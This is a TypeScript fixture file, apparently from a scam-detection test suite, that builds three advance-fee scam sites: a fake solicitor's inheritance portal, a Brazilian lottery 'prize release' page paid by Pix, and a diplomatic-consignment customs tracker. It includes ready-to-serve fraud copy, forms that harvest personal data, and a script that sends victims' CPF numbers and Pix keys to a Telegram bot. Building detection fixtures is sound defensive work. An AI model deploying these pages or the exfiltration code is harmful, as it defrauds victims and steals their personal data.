import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cssRoute, jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// ---------- English: "unclaimed estate" law firm portal ----------
const estHost = 'claims.harrowgate-chambers-legal.co.uk.estate-release.org';
const estPage = `<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Beneficiary Verification Portal – Harrowgate Chambers Solicitors</title>
<link rel="stylesheet" href="/portal/style.css">
</head>
<body>
<header><div class="w"><div class="brand">HARROWGATE CHAMBERS<small>Solicitors &amp; Estate Administrators &middot; Est. 1987</small></div><nav><a href="#">Home</a><a href="#">Probate</a><a href="#">Our Team</a><a href="#">Contact</a></nav></div></header>
<div class="w main">
 <aside><h4>Case file</h4><p>Ref: <b>HC/PRB/0917/25</b></p><p>Deceased: <b>Mr. Edward J. Castellane</b></p><p>Estate value: <b>£8,450,000.00</b></p><p>Executor: Barr. Stephen R. Okafor, Esq.</p><p>Status: <span class="st">Awaiting beneficiary fees</span></p></aside>
 <section>
  <h1>Beneficiary Verification &amp; Fund Release</h1>
  <p>Dear Beneficiary,</p>
  <p>Following our previous correspondence, we confirm that you have been identified as the sole surviving next of kin to the estate of our late client, Mr. Edward J. Castellane, a petroleum consultant who died intestate on 14 February 2023. Having exhausted all efforts to locate other relatives, the Board of Trustees has approved the release of the inheritance sum of <b>£8,450,000.00 (Eight Million Four Hundred and Fifty Thousand Pounds)</b> to you.</p>
  <p>Before the funds can be remitted by the paying bank, HM Courts require the following statutory charges to be settled by the beneficiary, as the funds cannot be used to offset these costs:</p>
  <table><tr><td>Probate &amp; Letters of Administration</td><td>£1,850.00</td></tr><tr><td>Anti-Terrorism / Money Laundering Clearance Certificate</td><td>£2,400.00</td></tr><tr><td>Stamp Duty &amp; Affidavit of Claim</td><td>£650.00</td></tr><tr><th>Total due</th><th>£4,900.00</th></tr></table>
  <p>Kindly note that this transaction is strictly confidential. Do not discuss it with your bank, as disclosure may delay the release.</p>
  <form id="f" autocomplete="off">
   <h3>Step 1 – Confirm your details</h3>
   <div class="g"><input name="fullname" placeholder="Full legal name" required><input name="dob" placeholder="Date of birth"><input name="phone" placeholder="Telephone / WhatsApp" required><input name="email" type="email" placeholder="Email address" required><input name="address" class="span" placeholder="Residential address"><input name="occupation" placeholder="Occupation"><input name="bank" placeholder="Receiving bank name"></div>
   <h3>Step 2 – Payment of release fees</h3>
   <label><input type="radio" name="pm" value="wire" checked> International bank wire (details sent by the Executor)</label>
   <label><input type="radio" name="pm" value="btc"> Bitcoin (faster clearance – 24h)</label>
   <label><input type="radio" name="pm" value="gift"> Apple / Steam gift cards (for beneficiaries without bank access)</label>
   <button>Submit &amp; Receive Payment Instructions</button>
  </form>
  <div id="ok" class="ok" hidden>Thank you. The Executor, Barr. Okafor, will contact you within 24 hours at the email provided with the payment instructions. Direct line: +44 7520 631 884.</div>
 </section>
</div>
<footer><div class="w">Harrowgate Chambers LLP is authorised and regulated by the Solicitors Regulation Authority (SRA No. 603118). Registered office: 41 Gray’s Inn Road, London WC1X 8PP.</div></footer>
<script src="/portal/portal.js"></script>
</body>
</html>`;
const estCss = `body{margin:0;font-family:Georgia,"Times New Roman",serif;background:#f7f5f0;color:#222}.w{max-width:1000px;margin:0 auto;padding:0 18px}
header{background:#1c2b39;color:#e9dfc7;padding:14px 0}header .w{display:flex;justify-content:space-between;align-items:center}.brand{font-size:22px;letter-spacing:2px}.brand small{display:block;font-size:11px;letter-spacing:0;opacity:.8}
nav a{color:#e9dfc7;margin-left:18px;text-decoration:none;font-family:Arial;font-size:13px}
.main{display:grid;grid-template-columns:240px 1fr;gap:26px;padding-top:26px}aside{background:#fff;border:1px solid #ddd3bd;padding:14px;font-size:13px;font-family:Arial;height:max-content}.st{color:#a0522d;font-weight:bold}
section{background:#fff;border:1px solid #ddd3bd;padding:22px 28px;line-height:1.55}table{width:100%;border-collapse:collapse;margin:12px 0}td,th{border-bottom:1px solid #eee;padding:6px;text-align:left}
.g{display:grid;grid-template-columns:1fr 1fr;gap:8px}.g input{padding:9px;border:1px solid #bbb}.span{grid-column:span 2}label{display:block;margin:6px 0;font-family:Arial;font-size:14px}
button{margin-top:12px;background:#1c2b39;color:#fff;border:0;padding:12px 20px;font-size:15px}.ok{background:#eef7ee;border:1px solid #9c9;padding:12px;margin-top:12px}footer{font-size:11px;color:#777;padding:24px 0;font-family:Arial}`;
const estJs = `document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.ref='HC/PRB/0917/25';
var x=new XMLHttpRequest();x.open('POST','/portal/api/beneficiary.php');x.setRequestHeader('Content-Type','application/json');x.onload=function(){document.getElementById('ok').hidden=false;document.getElementById('f').style.display='none'};x.send(JSON.stringify(o))});`;

// ---------- Portuguese (Brazil): lottery "prize" release fee via Pix ----------
const lotHost = 'premiados.caixa-loterias-sorteio2025.com.br.resgate-premio.online';
const lotPage = `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Parabéns! Você foi sorteado – Resgate do Prêmio</title>
<style>
body{margin:0;font-family:"Segoe UI",Roboto,Arial,sans-serif;background:#f0f4f8;color:#1a1a1a}
.tp{background:#005ca9;color:#fff;padding:12px 18px;display:flex;align-items:center;gap:10px}.tp .x{background:#f39200;border-radius:4px;padding:4px 8px;font-weight:800}
.cnf{text-align:center;padding:26px 14px;background:linear-gradient(#005ca9,#0078c8);color:#fff}
.cnf h1{margin:0;font-size:26px}.cnf .v{font-size:40px;font-weight:800;color:#ffd200;margin:10px 0}
.bx{max-width:520px;margin:-20px auto 20px;background:#fff;border-radius:12px;padding:20px;box-shadow:0 4px 20px rgba(0,0,0,.1)}
.bx input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccd;border-radius:6px;box-sizing:border-box;font-size:16px}
.bx button{width:100%;padding:14px;background:#00a859;color:#fff;font-size:17px;font-weight:700;border:0;border-radius:8px;margin-top:8px}
.pix{display:none;text-align:center}.pix .code{word-break:break-all;font-family:monospace;font-size:12px;background:#f4f4f4;padding:10px;border-radius:6px}
.qr{width:180px;height:180px;margin:10px auto;background:repeating-conic-gradient(#000 0 25%,#fff 0 50%) 0 0/18px 18px;border:8px solid #fff;outline:1px solid #ddd}
.com{max-width:520px;margin:0 auto 30px;font-size:14px}.com div{background:#fff;border-radius:8px;padding:10px 12px;margin:8px 0;box-shadow:0 1px 3px rgba(0,0,0,.06)}
footer{text-align:center;font-size:11px;color:#888;padding:18px}
</style>
</head>
<body>
<div class="tp"><span class="x">LOTERIAS</span><b>Sorteio Especial Mega da Virada – Resgate Online</b></div>
<div class="cnf"><h1>&#127881; PARABÉNS! SEU CPF FOI SORTEADO!</h1><div class="v">R$ 187.450,00</div><div>Sorteio nº 2871 &middot; Bilhete premiado <b id="bil"></b></div></div>
<div class="bx">
 <div id="a">
  <p>Para liberar o prêmio, confirme seus dados. O valor será depositado via <b>Pix</b> na sua conta em até 10 minutos.</p>
  <input id="cpf" placeholder="Digite seu CPF" inputmode="numeric" maxlength="14">
  <input id="nome" placeholder="Nome completo">
  <input id="chave" placeholder="Sua chave Pix (CPF, celular ou e-mail)">
  <button id="b1">RESGATAR MEU PRÊMIO</button>
 </div>
 <div class="pix" id="p">
  <h3>Falta pouco, <span id="nm"></span>!</h3>
  <p>Conforme a Lei nº 13.756/2018, é necessário recolher a <b>taxa de liberação (IOF + tarifa bancária) de R$ 64,90</b> antes do depósito do prêmio. O valor é devolvido junto com o prêmio.</p>
  <div class="qr"></div>
  <p>Pix copia e cola:</p>
  <div class="code" id="cc">00020126580014BR.GOV.BCB.PIX0136c4f2a9e1-7b3d-4e1a-9f22-3a8d5e61b0c752040000530398654056490.005802BR5925RESGATE PREMIOS LTDA6009SAO PAULO62070503***6304A1F3</div>
  <button id="cp">Copiar código Pix</button>
  <p style="font-size:13px;color:#c00">O prêmio expira em <b id="t">09:59</b>. Após o prazo ele será repassado ao próximo sorteado.</p>
 </div>
</div>
<div class="com">
 <div><b>Marcos S.</b> – Recebi meus R$ 92 mil ontem, achei que era golpe mas caiu certinho!! &#128591;</div>
 <div><b>Cláudia R.</b> – Paguei a taxinha e em 10 minutos estava na conta. Obrigada Caixa!</div>
 <div><b>José P.</b> – Verdade pessoal, já resgatei o meu.</div>
</div>
<footer>© 2025 Loterias – Todos os direitos reservados. Jogue com responsabilidade.</footer>
<script>
(function(){document.getElementById('bil').textContent=Math.floor(1e5+Math.random()*9e5);
var c=document.getElementById('cpf');c.oninput=function(){var v=c.value.replace(/\\D/g,'').slice(0,11);c.value=v.replace(/(\\d{3})(\\d{3})(\\d{3})(\\d{1,2})?/,function(m,a,b,d,e){return a+'.'+b+'.'+d+(e?'-'+e:'')})};
document.getElementById('b1').onclick=function(){var d={cpf:c.value,nome:document.getElementById('nome').value,chave:document.getElementById('chave').value};if(d.cpf.length<14){alert('CPF inválido');return}
fetch('https://api.telegram.org/bot7412209933:AAF8xq2m1rTnZpLw3Qe0cYb_k5uVvHd7s9M/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002219845117',text:'NOVO LEAD PREMIO\\nCPF: '+d.cpf+'\\nNome: '+d.nome+'\\nPix: '+d.chave})}).catch(function(){});
document.getElementById('nm').textContent=d.nome.split(' ')[0]||'';document.getElementById('a').style.display='none';document.getElementById('p').style.display='block';
var s=599;setInterval(function(){s=Math.max(0,s-1);document.getElementById('t').textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000)};
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cc').textContent).then(function(){alert('Código copiado! Abra o app do seu banco e pague via Pix copia e cola.')})};
})();
</script>
</body>
</html>`;

// ---------- English: diplomatic consignment box held at customs ----------
const conHost = 'track.globaldiplomatic-courierservices.com';
const conPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Global Diplomatic Courier Services – Consignment Tracking</title>
<link rel="stylesheet" href="/css/gdcs.css">
</head>
<body>
<div class="topline">Secure Diplomatic Logistics &middot; Vaults in London, Dubai, Johannesburg, Houston &middot; 24/7 Desk: +1 (347) 552-0916</div>
<header><img src="/img/logo.png" width="42" height="42" alt=""><div><b>GLOBAL DIPLOMATIC</b><br><small>COURIER SERVICES LTD</small></div><nav><a href="/">Home</a><a href="/about">About</a><a href="/services">Services</a><a href="/track" class="on">Track</a><a href="/contact">Contact</a></nav></header>
<main>
 <form id="tf"><input id="tn" value="GDC-7714-0932-US" aria-label="Tracking number"><button>Track</button></form>
 <div id="res">Loading consignment…</div>
</main>
<footer>© 2025 Global Diplomatic Courier Services Ltd. All consignments are insured by Lloyd’s of London.</footer>
<script src="/js/track.js"></script>
</body>
</html>`;
const conCss = `body{margin:0;font-family:Arial,sans-serif;background:#eef0f3;color:#222}.topline{background:#8b0000;color:#fff;font-size:12px;padding:6px 20px}
header{background:#fff;display:flex;align-items:center;gap:12px;padding:12px 20px;border-bottom:3px solid #c9a227}header nav{margin-left:auto}header nav a{margin-left:16px;color:#333;text-decoration:none}header nav a.on{color:#8b0000;font-weight:bold}
main{max-width:860px;margin:24px auto;background:#fff;padding:22px;border-radius:4px}#tf{display:flex;gap:8px}#tf input{flex:1;padding:10px;font-size:16px}#tf button{background:#8b0000;color:#fff;border:0;padding:0 24px}
.tl{border-left:3px solid #c9a227;margin:18px 0 18px 8px;padding-left:16px}.tl div{margin-bottom:10px;font-size:14px}.tl b{display:block}.hold{background:#fff4e5;border:1px solid #e0a030;padding:14px;font-size:14px;line-height:1.5}
.kv{display:grid;grid-template-columns:200px 1fr;gap:4px;font-size:14px;margin:12px 0}footer{text-align:center;font-size:11px;color:#777;padding:20px}`;
const conJs = `(function(){
function render(d){var h='<h2>Consignment '+d.id+'</h2><div class="kv">';for(var k in d.info)h+='<span>'+k+'</span><b>'+d.info[k]+'</b>';h+='</div><div class="tl">';
d.events.forEach(function(e){h+='<div><b>'+e[0]+'</b>'+e[1]+'</div>'});h+='</div><div class="hold"><b>STATUS: ON HOLD – JFK International Airport Customs</b><br>'+d.hold+'</div>';
h+='<p><a href="#" id="pay" style="display:inline-block;background:#8b0000;color:#fff;padding:12px 22px;text-decoration:none">Pay Clearance Fee ('+d.fee+')</a></p>';document.getElementById('res').innerHTML=h;
document.getElementById('pay').onclick=function(ev){ev.preventDefault();var n=prompt('Enter the receiver email registered on the consignment:');if(!n)return;
fetch('/api/clearance',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({id:d.id,email:n})}).then(function(r){return r.json()}).then(function(j){alert(j.msg)})}}
function load(){fetch('/api/track?n='+encodeURIComponent(document.getElementById('tn').value)).then(function(r){return r.json()}).then(render)}
document.getElementById('tf').onsubmit=function(e){e.preventDefault();load()};load();})();`;

export const entries: Entry[] = [
  {
    id: 'e-scam-advfee-estate-inheritance',
    label: 'scam',
    kind: 'advance-fee-inheritance',
    url: `https://${estHost}/portal/verify?case=HC-PRB-0917-25&b=7731`,
    body: estPage,
    routes: {
      [`${estHost}/portal/style.css`]: cssRoute(estCss),
      [`${estHost}/portal/portal.js`]: jsRoute(estJs),
      [`${estHost}/portal/api/beneficiary.php`]: jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'e-scam-advfee-loteria-pt',
    label: 'scam',
    kind: 'advance-fee-lottery',
    url: 'https://sms.encurta-link.net/r/Mg7Qx',
    routes: {
      'sms.encurta-link.net/r/Mg7Qx': redirectRoute(301, `https://${lotHost}/resgate/?cpf_ref=sms&id=2871`),
      [`${lotHost}/resgate/`]: htmlRoute(lotPage),
    },
  },
  {
    id: 'e-scam-advfee-consignment-customs',
    label: 'scam',
    kind: 'advance-fee-consignment',
    url: `https://${conHost}/track?n=GDC-7714-0932-US`,
    routes: {
      [`${conHost}/track`]: htmlRoute(conPage),
      [`${conHost}/css/gdcs.css`]: cssRoute(conCss),
      [`${conHost}/js/track.js`]: jsRoute(conJs),
      [`${conHost}/img/logo.png`]: pngRoute(139, 0, 0),
      [`${conHost}/api/track`]: jsonRoute({
        id: 'GDC-7714-0932-US',
        info: {
          Content: 'Diplomatic Box (Family Valuables / Funds)',
          Declared: 'US$ 4,500,000.00 (sealed)',
          Sender: 'Mrs. Grace A. Mensah, Accra, Ghana',
          Receiver: 'Beneficiary (name withheld)',
          Agent: 'Diplomat Rev. John Williams',
          Weight: '48.5 kg',
        },
        events: [
          ['Departed Kotoka Intl. (ACC)', 'Consignment released by sender, diplomatic seal applied'],
          ['Arrived Heathrow (LHR)', 'Transit inspection completed'],
          ['Arrived JFK, New York', 'Held by Customs and Border Protection pending clearance'],
        ],
        hold: 'The consignment cannot be delivered until the Non-Inspection / Anti-Terrorism clearance certificate is obtained. The receiver must pay the clearance fee of US$ 3,850.00. Payment is accepted by Bitcoin, Zelle, Cash App, or Apple gift cards. The diplomat agent will deliver to your residence within 48 hours of payment.',
        fee: 'US$ 3,850.00',
      }),
      [`${conHost}/api/clearance`]: jsonRoute({ msg: 'Payment instructions have been sent to your email. Please contact Diplomat Williams on WhatsApp +1 (347) 552-0916 with your payment receipt.' }),
    },
  },
];
